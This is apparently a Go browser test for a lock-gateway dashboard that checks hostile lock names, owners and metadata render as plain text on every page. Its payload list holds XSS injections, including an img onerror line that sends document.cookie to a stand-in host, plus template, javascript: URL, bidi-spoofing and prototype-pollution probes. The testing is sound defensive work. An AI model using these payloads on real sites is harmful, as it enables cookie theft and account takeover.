//go:build unix

package dashboard

import (
	"strings"
	"testing"

	"github.com/fencegate/fencegate/gateway/api"
)

// hostileNames are such that whoever takes them for anything but texts does harm, or shows something else than what is there.
var hostileNames = []string{
	`<img src=x onerror="fetch('//evil.example/'+document.cookie)">`,
	`<script>document.body.dataset.owned=1</script>`,
	`"><svg onload=document.body.dataset.owned=1>`,
	`'+alert(1)+'{{7*7}}${7*7}`,
	`javascript:alert(1)`,
	`#/locks?state=held&x=%22`,
	"\u202egnp.txt\u2066 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
	"__proto__", "constructor", "e\u0301\u200b\u00a0?#&=%2F%00",
	strings.Repeat("long-", 50),
}

// hostileNameOf makes what may be a name of a lock of a text: its segments may be neither empty nor dots.
func hostileNameOf(text string) string { return "h/" + strings.ReplaceAll(text, "//", "/") }

// TestHostileNames shows names, owners, keys, reasons and metadata that were chosen to do harm, on every page on which they come, as the texts that they are.
func TestHostileNames(t *testing.T) {
	g := startGateway(t)
	for _, owner := range hostileNames {
		lock := hostileNameOf(owner)
		stale := g.hold(t, lock, owner)
		_, err := g.Break(t.Context(), lock, api.BreakRequest{Reason: owner})
		check(t, err)
		_, err = g.Acquire(t.Context(), lock, api.AcquireRequest{OwnerID: owner, TTLMS: ptr(longTTL), Metadata: metadataOf(owner)})
		check(t, err)
		g.shutOut(t, stale, lock)
		g.queue(t, lock, owner+"!")
		_, err = g.CreateSession(t.Context(), api.SessionRequest{OwnerID: owner, TTLMS: ptr(longTTL), Metadata: metadataOf(owner)})
		check(t, err)
		_, err = g.Campaign(t.Context(), "e/"+lock, api.CampaignRequest{Candidate: owner, TTLMS: ptr(longTTL), Value: metadataOf(owner)})
		check(t, err)
		_, err = g.PutPolicy(t.Context(), lock, api.PolicyRequest{RequireLeaseID: true})
		check(t, err)
	}
	for _, as := range []look{desktop, phone} {
		for _, page := range []struct {
			hash  string
			names func(owner string) string // what is seen here of each
		}{
			{"#/", nil}, // it shows only the newest
			{"#/rejections", hostileNameOf}, {"#/locks", hostileNameOf}, {"#/policies", hostileNameOf},
			{"#/sessions", func(owner string) string { return owner }},
			{"#/elections", func(owner string) string { return "e/" + hostileNameOf(owner) }},
		} {
			t.Run(as.name+" "+page.hash, func(t *testing.T) {
				p := openTab(t, g, as)
				p.open(page.hash)
				p.waitText("main h1", "")
				p.waitText("#live", "Live")
				for _, owner := range hostileNames {
					if page.names != nil {
						p.seesText(page.names(owner))
					}
				}
				p.unharmed()
			})
		}
	}
	for _, owner := range hostileNames {
		t.Run(owner[:min(12, len(owner))], func(t *testing.T) {
			p := openTab(t, g, phone)
			p.open(lockHash(hostileNameOf(owner)))
			p.seesText(hostileNameOf(owner))
			p.seesText(owner)
			p.seesText(owner + "!")
			p.click("button.danger")
			p.wait("the dialog is open", `document.querySelector("dialog").open`)
			p.unharmed()
		})
	}
}

// seesText waits for an element whose whole text is this one.
func (p *tab) seesText(text string) {
	p.t.Helper()
	p.wait(text+" is seen", `[...document.querySelectorAll("main bdi")].some((node) => node.textContent === %s && node.checkVisibility())`, text)
}

// unharmed fails the test if a text has become more than that.
func (p *tab) unharmed() {
	p.t.Helper()
	if found := eval[string](p, `[...document.querySelectorAll("main img, main script, main iframe, main object, [onerror], [onload], a[href^='javascript:' i]")]
		.map((node) => node.outerHTML).join() + (document.body.dataset.owned ?? "")`); found != "" {
		p.t.Errorf("a text became an element: %s", found)
	}
	p.checkWidth()
}
